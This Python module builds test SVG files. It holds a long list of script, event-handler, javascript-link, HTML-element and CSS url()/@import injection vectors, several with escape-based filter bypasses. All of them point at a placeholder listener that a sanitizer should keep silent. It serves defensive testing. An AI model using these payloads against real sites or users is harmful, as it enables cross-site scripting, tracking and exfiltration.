"""Drawings that load or run something: vectors of our own making.

After SVG 2 (linking, scripting), CSS Syntax 3 (escapes, error recovery), CSS Images 4 and HTML. `LISTENER` in each stands for the
address of another server, which must hear nothing.
"""

from __future__ import annotations

NAMES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml"'
BOX = '<rect id="r" width="200" height="200" fill="red"/>'
TEXT = '<text y="50" font-family="f">words</text>'
DATA_SVG = "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="


def style(css: str) -> str:
    return f"<style>{css}</style>{BOX}{TEXT}"


VECTORS = {
    # Scripts
    "script": "<script>fetch('LISTENER')</script>",
    "script with a prefix": '<s:script xmlns:s="http://www.w3.org/2000/svg">fetch("LISTENER")</s:script>',
    "script by address": '<script xlink:href="LISTENER"/>',
    "html script": "<h:script>fetch('LISTENER')</h:script>",
    "onload": f"<g onload=\"fetch('LISTENER')\">{BOX}</g>",
    "onload of the root": None,
    "onclick": f"<g onclick=\"fetch('LISTENER')\">{BOX}</g>",
    "ONCLICK": f"<g ONCLICK=\"fetch('LISTENER')\">{BOX}</g>",
    "onbegin": "<animate attributeName=\"x\" dur=\"1s\" onbegin=\"fetch('LISTENER')\"/>",
    "handler": "<handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">fetch('LISTENER')</handler>",
    "javascript link": f"<a xlink:href=\"javascript:fetch('LISTENER')\">{BOX}</a>",
    "javascript link with a tab": f"<a href=\"java&#9;script:fetch('LISTENER')\">{BOX}</a>",
    "javascript link behind a control": f"<a href=\"&#32;&#10;javascript:fetch('LISTENER')\">{BOX}</a>",
    "data link": f"<a href=\"data:text/html,&lt;script&gt;fetch('LISTENER')&lt;/script&gt;\">{BOX}</a>",
    "set xlink:href": f"<a><set attributeName=\"xlink:href\" to=\"javascript:fetch('LISTENER')\"/>{BOX}</a>",
    "animate href": f"<a><animate attributeName=\"href\" values=\"javascript:fetch('LISTENER')\" dur=\"9s\"/>{BOX}</a>",
    "animate xlink:href": f"<a xlink:href=\"#r\"><animate attributeName=\"xlink:href\" values=\"javascript:fetch('LISTENER')\" dur=\"9s\"/>{BOX}</a>",
    "set onclick": f"<g><set attributeName=\"onclick\" to=\"fetch('LISTENER')\"/>{BOX}</g>",
    "attribute default of a DTD": None,
    # Addresses in attributes
    "image": '<image xlink:href="LISTENER" width="9" height="9"/>',
    "image without a prefix": '<image href="LISTENER" width="9" height="9"/>',
    "image without a scheme": '<image href="NOSCHEME" width="9" height="9"/>',
    "feImage": f'<filter id="f"><feImage href="LISTENER"/></filter><g filter="url(#f)">{BOX}</g>',
    "use": '<use href="LISTENER#x"/>',
    "use of a drawing in data": f'<use href="{DATA_SVG}#x"/>',
    "image of a drawing in data": f'<image href="{DATA_SVG}" width="9" height="9"/>',
    "set image xlink:href": '<image width="9" height="9"><set attributeName="xlink:href" to="LISTENER"/></image>',
    "animate behind a comment": '<path d="M0 0L50 50L0 90z"><animate attributeName="mask" dur="1s" fill="freeze" values="/*;url(LISTENER#m);*/"/></path>',
    "animate behind a quotation mark": '<path d="M0 0L50 50L0 90z"><animate attributeName="clip-path" dur="1s" fill="freeze" values="&quot;;url(LISTENER#m);&quot;"/></path>',
    "animate behind an apostrophe": """<path d="M0 0L50 50L0 90z"><animate attributeName="marker-start" dur="1s" fill="freeze" values="';url(LISTENER#m);'"/></path>""",
    "animate image href": '<image width="9" height="9"><animate attributeName="xlink:href" values="LISTENER" dur="9s"/></image>',
    "set feImage href": f'<filter id="f"><feImage><set attributeName="href" to="LISTENER"/></feImage></filter><g filter="url(#f)">{BOX}</g>',
    "gradient by address": f'<linearGradient id="g" href="LISTENER#g"/><g fill="url(#g)">{BOX}</g>',
    "pattern by address": f'<pattern id="p" xlink:href="LISTENER#p"/><g fill="url(#p)">{BOX}</g>',
    "textPath": '<text><textPath href="LISTENER#p">words</textPath></text>',
    "xml:base": '<g xml:base="LISTENER/"><image href="x.png" width="9" height="9"/></g>',
    "cursor attribute": f'<g cursor="url(LISTENER), auto">{BOX}</g>',
    "fill": '<rect width="200" height="200" fill="url(LISTENER#g)"/>',
    "filter": '<rect width="200" height="200" filter="url(LISTENER#f)"/>',
    "mask": '<rect width="200" height="200" mask="url(LISTENER#m)"/>',
    "clip-path": '<rect width="200" height="200" clip-path="url(\'LISTENER#c\')"/>',
    "marker": '<path d="M0 0L50 50" marker-start="url(LISTENER#m)" stroke="red"/>',
    "set fill": f'<g><set attributeName="mask" to="url(LISTENER#m)"/>{BOX}</g>',
    # Elements of documents
    "foreignObject": '<foreignObject width="99" height="99"><h:img src="LISTENER"/></foreignObject>',
    "html img": '<h:img src="LISTENER"/>',
    "html img srcset": '<h:img srcset="LISTENER 1x"/>',
    "html picture": '<h:picture><h:source srcset="LISTENER"/><h:img/></h:picture>',
    "html body background": '<h:body background="LISTENER"/>',
    "html table background": '<h:table background="LISTENER"><h:tr><h:td>x</h:td></h:tr></h:table>',
    "html link": '<h:link rel="stylesheet" href="LISTENER"/>',
    "html meta": '<h:meta http-equiv="refresh" content="0;url=LISTENER"/>',
    "html base": '<h:base href="LISTENER/"/><image href="x.png" width="9" height="9"/>',
    "html iframe": '<h:iframe src="LISTENER"/>',
    "html object": '<h:object data="LISTENER"/>',
    "html video": '<h:video poster="LISTENER" src="LISTENER"/>',
    "html style": "<h:style>@import url(LISTENER);</h:style>",
    "iframe": '<iframe src="LISTENER"/>',
    "link": '<link rel="stylesheet" href="LISTENER"/>',
    "stylesheet instruction": None,
    # Stylesheets
    "import": style("@import url(LISTENER);"),
    "import of a string": style("@import 'LISTENER';"),
    "import with an escape": style("@im\\port 'LISTENER';"),
    "import with a hex escape": style("@\\69mport 'LISTENER';"),
    "import behind a comment": style("/* */@import/**/'LISTENER';"),
    "import behind a layer": style("@import url(LISTENER) layer(a) supports(display: block);"),
    "import in CDATA": style("<![CDATA[@import url(LISTENER);]]>"),
    "text behind a child of style": "<style><g/>@import url(LISTENER);</style>",
    "text behind a comment": style("<!-- x -->@import url(LISTENER);"),
    "style in a title": "<title><style>@import url(LISTENER);</style></title>",
    "background": style("rect { background-image: url(LISTENER); } svg { background: url(LISTENER) }"),
    "url with an escape": style("svg { background: u\\rl(LISTENER) }"),
    "url with a hex escape": style("svg { background: \\75 rl(LISTENER) }"),
    "URL": style("svg { background: URL( 'LISTENER' ) }"),
    "unclosed url": style("svg { background: url(LISTENER"),
    "unclosed string": style("svg { background: url('LISTENER"),
    "comment in a string": style("a { content: '/*' } svg { background: url(LISTENER) } b { content: '*/' }"),
    "image-set of a string": style("svg { background: image-set('LISTENER' 1x) }"),
    "-webkit-image-set": style("svg { background: -webkit-image-set(url(LISTENER) 1x) }"),
    "cross-fade": style("svg { background: -webkit-cross-fade(url(LISTENER), url(LISTENER), 50%) }"),
    "src function": style("svg { background: src('LISTENER') }"),
    "image function": style("svg { background: image('LISTENER') }"),
    "custom property": style("svg { --a: url(LISTENER); background: var(--a) }"),
    "font-face": style("@font-face { font-family: f; src: url(LISTENER) }"),
    "font-face in media": style("@media all { @font-face { font-family: f; src: url('LISTENER') format('woff2') } }"),
    "nested rule": style("svg { &amp; rect { mask: url(LISTENER#m) } background: red; &amp; { background: url(LISTENER) } }"),
    "in media": style("@media all { @supports (display: block) { svg { background: url(LISTENER) } } }"),
    "keyframes": style("@keyframes k { from, to { background: url(LISTENER) } } svg { animation: k 9s infinite }"),
    "list-style": style("svg { display: list-item; list-style-image: url(LISTENER) }"),
    "content": style("svg::before { content: url(LISTENER) }"),
    "cursor": style("rect { cursor: url(LISTENER), auto }"),
    "border-image": style("svg { border: 9px solid; border-image: url(LISTENER) 9 }"),
    "shape-outside": style("svg { float: left; shape-outside: url(LISTENER) }"),
    "mask-image": style("rect { -webkit-mask-image: url(LISTENER) }"),
    "offset-path": style("rect { offset-path: url(LISTENER#p) }"),
    "style attribute": f'<g style="background: url(LISTENER); mask: url(LISTENER#m)">{BOX}</g>',
    "style attribute with an escape": f'<g style="m\\61sk: u\\rl(LISTENER#m)">{BOX}</g>',
    "style attribute image-set": f"<g style=\"-webkit-mask: image-set('LISTENER' 1x)\">{BOX}</g>",
    "style attribute custom": f'<g style="--x: u\\72l(LISTENER#m); mask: var(--x)">{BOX}</g>',
    "set style": f'<g><set attributeName="style" to="mask: url(LISTENER#m)"/>{BOX}</g>',
    "attributeName with spaces": f"<a><set attributeName=\" xlink:href \" to=\"javascript:fetch('LISTENER')\"/>{BOX}</a>",
}  # fmt: skip
WHOLE = {
    "onload of the root": f"<svg {NAMES} width='200' height='200' onload=\"fetch('LISTENER')\">{BOX}</svg>",
    "attribute default of a DTD": "<!DOCTYPE svg [<!ATTLIST rect onclick CDATA \"fetch('LISTENER')\">]>"
    f"<svg {NAMES} width='200' height='200'>{BOX}</svg>",
    "stylesheet instruction": f"<?xml-stylesheet href='LISTENER' type='text/css'?><svg {NAMES} width='9' height='9'>{BOX}</svg>",
}


def document(name: str, address: str) -> bytes:
    text = WHOLE.get(name) or f"<svg {NAMES} width='200' height='200'>{VECTORS[name]}</svg>"
    where = f"{address}/heard/{list(VECTORS).index(name)}"
    return text.replace("LISTENER", where).replace("NOSCHEME", where.removeprefix("http:")).encode()
